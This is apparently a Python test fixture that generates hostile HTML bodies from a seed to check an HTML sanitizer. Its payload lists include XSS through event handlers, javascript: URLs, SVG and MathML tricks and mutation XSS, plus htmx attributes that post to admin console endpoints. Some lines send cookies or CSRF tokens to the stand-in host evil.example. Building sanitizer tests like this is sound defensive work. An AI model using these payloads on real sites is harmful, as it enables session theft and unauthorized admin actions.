# ruff: noqa: E501, T201 - an attack is read whole, on one line
"""Hostile bodies of every kind that we know, from a seed; ``python -m tests.content.hostile SEED COUNT`` prints some.

Each carries words that must survive the cleaning, and tries to act: to post, to load, to run, to reach another host, to pass for
a part of the house. The marker ``http://evil.example`` is where requests would go if they left.
"""

from __future__ import annotations

import random
import sys
from collections.abc import Callable
from dataclasses import dataclass
from html import escape

EVIL = "http://evil.example"
_POSTS = (
    "/console/users/new",
    "/console/articles/1/review",
    "/console/articles/1/archive",
    "/console/logout",
)
_TRIGGERS = ("load", "revealed", "intersect once", "every 1s", "mouseenter from:body", "load delay:50ms")
_VALUES = (
    '{"username":"boss","role":"admin","password":"Office-2026"}',
    'js:{csrf_token: document.querySelector("meta[name=csrf-token]").content}',
    '{"decision":"approve"}',
)
_JS = (
    "alert(1)",
    f"fetch('{EVIL}/x')",
    f"new Image().src='{EVIL}/'+document.cookie",
    "top.location='/console/logout'",
)
_TAGS = ("p", "div", "section", "span", "strong", "td", "li", "h2", "img", "a", "blockquote", "figure")


@dataclass(frozen=True)
class Hostile:
    """A body, what it tries, and the words in it that are honest text."""

    kind: str
    body: str
    words: str


def bodies(seed: int, count: int) -> list[Hostile]:
    """``count`` bodies of all kinds in turn, the same ones for the same seed."""
    rnd = random.Random(seed)
    return [_one(rnd, *_KINDS[number % len(_KINDS)], number) for number in range(count)]


def _one(rnd: random.Random, kind: str, make: Callable[[random.Random, str], str], number: int) -> Hostile:
    words = f"党课通知第{number}号"
    body = make(rnd, words)
    for _ in range(rnd.randrange(3)):
        body = rnd.choice(_WRAPS)(rnd, body)
    return Hostile(kind, body, words)


def _case(rnd: random.Random, text: str) -> str:
    return (
        "".join(rnd.choice((letter.lower(), letter.upper())) for letter in text)
        if rnd.random() < 0.3
        else text
    )


def _quoted(rnd: random.Random, value: str) -> str:
    if rnd.random() < 0.25:
        value = "".join(rnd.choice((c, f"&#{ord(c)};", f"&#x{ord(c):x};")) for c in value)
        return f'"{value}"'
    return f"'{value}'" if "'" not in value else '"' + escape(value) + '"'


def _htmx(rnd: random.Random, words: str) -> str:
    mark = rnd.choice(("data-hx-", "hx-", "DATA-HX-", "data-Hx-"))
    attributes = {
        f"{mark}{rnd.choice(('post', 'get', 'put', 'delete'))}": rnd.choice(_POSTS),
        f"{mark}trigger": rnd.choice(_TRIGGERS),
        f"{mark}vals": rnd.choice(_VALUES),
        f"{mark}include": "form",
        f"{mark}target": "body",
        f"{mark}headers": '{"X-CSRFToken":"x"}',
        f"{mark}on": f"htmx:load: {rnd.choice(_JS)}",
    }
    names = rnd.sample(sorted(attributes), rnd.randrange(3, len(attributes)))
    if rnd.random() < 0.3:
        names.append(names[0])
    shown = " ".join(f"{name}={_quoted(rnd, attributes[name])}" for name in names)
    tag = rnd.choice(_TAGS[:-4])
    return f"<{_case(rnd, tag)} {shown}>{words}</{tag}>"


def _bootstrap(rnd: random.Random, words: str) -> str:
    what = rnd.choice(("modal", "collapse", "dropdown", "offcanvas", "tooltip", "carousel"))
    return (
        f'<a data-bs-toggle="{what}" data-bs-target="#confirm" data-bs-html="true" title="<img src=x onerror=alert(1)>" '
        f'data-confirm="x" data-autosubmit data-notice="success" data-copy="{EVIL}" class="modal show" id="confirm" '
        f'role="dialog" aria-live="assertive" name="csrf-token" target="_top" ping="{EVIL}/ping">{words}</a>'
    )


def _alpine(rnd: random.Random, words: str) -> str:
    return f'<div x-data="{{}}" x-init="{rnd.choice(_JS)}" @click="{rnd.choice(_JS)}" :class="x" v-html="x">{words}</div>'


def _handler(rnd: random.Random, words: str) -> str:
    name = rnd.choice(
        ("onload", "onerror", "onclick", "onmouseover", "onfocus autofocus tabindex=1", "onpointerrawupdate")
    )
    between = rnd.choice((" ", "/", "\n", "\t", "\x0c", "/ /"))
    sep = rnd.choice(("=", " = ", "=\n"))
    return f"<img{between}src=x{between}{_case(rnd, name)}{sep}{_quoted(rnd, rnd.choice(_JS))}><p{between}{name}{sep}alert(1)>{words}</p>"


def _address(rnd: random.Random, words: str) -> str:
    url = rnd.choice(
        (
            "javascript:alert(1)", " java\nscript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
            "vbscript:x", "//evil.example/x", "/console/users/new", "blob:x", "\x01javascript:alert(1)", "file:///etc/passwd",
            "/\\evil.example", "https:evil", "http://", "/m/asset/../../console/logout", "javascript&colon;alert(1)",
        )
    )  # fmt: skip
    return f"<a href={_quoted(rnd, url)} target=_top>{words}</a><img src={_quoted(rnd, url)} srcset={_quoted(rnd, url)}>"


def _style(rnd: random.Random, words: str) -> str:
    bad = rnd.choice(
        (
            "background:url(javascript:alert(1))", f"background:u\\72l({EVIL}/a)", "width:expression(alert(1))",
            "behavior:url(#x)", "-moz-binding:url(x)", "position:fixed;inset:0;z-index:99999", f"background:image-set('{EVIL}' 1x)",
            "background:url(/console/logout)", f"background-image:-webkit-image-set(url({EVIL}/b) 1x)", "content:attr(data-x)",
            f"background:url('{EVIL}/c);color:red", f"color:red;/*{EVIL}*/background:url(data:image/svg+xml,<svg/onload=alert(1)>)",
            f"font:1px/1 x;src:url({EVIL}/f)", "color:var(--x,url(//evil.example))", f"background:cross-fade(url({EVIL}),red)",
            "width:calc(1px * (2)", "transform:translate(0,-900px) scale(90)", f"list-style:url({EVIL}/l)",
            "background:url(/m/asset/x)", "x:}</style><script>alert(1)</script>", f"cursor:url({EVIL}/cur),auto",
            f"background:element(#confirm), url( \"{EVIL}/q\" )",
        )
    )  # fmt: skip
    return f"<p style={_quoted(rnd, f'color:red;{bad};font-size:16px')}>{words}</p>"


def _sheet(rnd: random.Random, words: str) -> str:
    rule = rnd.choice(
        (
            f"@import '{EVIL}/s.css';", f"p{{background:url({EVIL}/p)}}", "*{position:fixed;inset:0}",
            f"input[name=csrf_token][value^=a]{{background:url({EVIL}/a)}}", f"@font-face{{font-family:x;src:url({EVIL}/f)}}",
        )
    )  # fmt: skip
    return f"<style>{rule}</style><link rel=stylesheet href={EVIL}/l.css><p>{words}</p>"


def _active(rnd: random.Random, words: str) -> str:
    js = rnd.choice(_JS)
    return (
        rnd.choice(
            (
                f"<script>{js}</script>", f"<ScRipt src={EVIL}/s.js></sCript>", f"<iframe srcdoc='<script>{js}</script>'></iframe>",
                f"<object data={EVIL}/o></object>", f"<embed src={EVIL}/e>", f"<meta http-equiv=refresh content='0;url={EVIL}'>",
                f"<base href={EVIL}/>", f"<video src={EVIL}/v autoplay onplay={js}>", f"<audio src={EVIL}/a autoplay>",
                f"<form action=/console/users/new method=post id=article-form><input name=role value=admin><button formaction={EVIL}>x</button></form>",
                f"<input type=image src={EVIL}/i formaction=/x autofocus onfocus={js}>", "<template><img src=x onerror=alert(1)></template>",
                f"<portal src={EVIL}></portal>", f"<body onload={js} background={EVIL}/b>", f"<table background={EVIL}/t><tr><td>x",
                f"<details open ontoggle={js}>", f"<link rel=prefetch href={EVIL}/p>", f"<marquee onstart={js}>", "<dialog open>x</dialog>",
            )
        )
        + f"<p>{words}</p>"
    )  # fmt: skip


def _foreign(rnd: random.Random, words: str) -> str:
    return (
        rnd.choice(
            (
                "<svg onload=alert(1)>", f"<svg><image href={EVIL}/i /><use href='data:x#y'/></svg>",
                f"<svg><script href={EVIL}/s /></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math href='javascript:alert(1)'>x</math>",
                "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
                "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<svg><foreignObject><iframe src=x></foreignObject></svg>",
                "<math><annotation-xml encoding='text/html'><p data-hx-get=/console/logout data-hx-trigger=load>x",
                "<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>", "<svg><set attributeName=href to=javascript:alert(1)>",
            )
        )
        + f"</svg></math><p>{words}</p>"
    )  # fmt: skip


def _mutating(rnd: random.Random, words: str) -> str:
    return (
        rnd.choice(
            (
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
                "<a title='`<img src=x onerror=alert(1)>`' alt=`` onmouseover=alert(1)>x</a>", "<p title='--><script>alert(1)</script>'>x</p>",
                "<table><p data-hx-post=/x><td><table><a><table><a data-x=1>x</a></table></a>", "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml <img src=x onerror=alert(1)>?>", "<p/title=x/onclick=alert(1)//>x</p>",
                "<img src='x' title='&quot; onerror=alert(1) x=&quot;'>", "<<script>alert(1)//<</script>", "<p \x00onclick=alert(1)>x</p>",
                "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>", "<select><option><img src=x onerror=alert(1)></select>",
                "<a href='javascript:alert(1)'<b>x</b>", "<p style=\"color:red\"onclick=\"alert(1)\">x</p>", "<p =\"><script>alert(1)</script>\">x</p>",
                "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<plaintext hidden>" if rnd.random() < 0.1 else "<b><p><b><p>",
            )
        )
        + f"<p>{words}</p>"
    )  # fmt: skip


def _house(rnd: random.Random, words: str) -> str:
    mark = rnd.choice(
        ("data-house=1", "data-stray=1", "data-saved=new", "data-guide=x", "data-print", "data-menu-toggle")
    )
    return f"<section {mark} style='font-size:16px'><ul {mark}><li data-max=1 data-hx-get=/console/logout>{words}</li></ul></section>"


def _numbers(rnd: random.Random, words: str) -> str:
    value = rnd.choice(
        ("999999999", "-1", "1e9", "1;x", "alert(1)", "100%;background:url(//evil.example)", "１００")
    )
    return (
        f"<table border='{value}' width='{value}' cellpadding='{value}'><tr><td colspan='{value}' rowspan='{value}' align='{value}'>"
        f"{words}</td></tr></table><ol start='{value}' type='{value}'><li>x</li></ol><font color='{value}'>x</font>"
    )


_KINDS: tuple[tuple[str, Callable[[random.Random, str], str]], ...] = (
    ("htmx", _htmx), ("bootstrap", _bootstrap), ("alpine", _alpine), ("handler", _handler), ("address", _address),
    ("style", _style), ("sheet", _sheet), ("active", _active), ("foreign", _foreign), ("mutating", _mutating),
    ("house", _house), ("numbers", _numbers),
)  # fmt: skip

_WRAPS: tuple[Callable[[random.Random, str], str], ...] = (
    lambda _, body: f"<div data-hx-ext='x'>{body}</div>",
    lambda _, body: f"<section><p>{body}",
    lambda rnd, body: "<div>" * rnd.randrange(1, 120) + body,
    lambda _, body: f"<table><tr>{body}</tr></table>",
    lambda rnd, body: f"{_htmx(rnd, '')}{body}",
    lambda _, body: f"<blockquote cite='{EVIL}'>{body}</blockquote>",
    lambda _, body: f"</p></div></section>{body}",
    lambda _, body: f"<![if mso]>{body}<![endif]>",
)


if __name__ == "__main__":
    for made in bodies(int(sys.argv[1]), int(sys.argv[2])):
        print(f"{made.kind}: {made.body!r}")
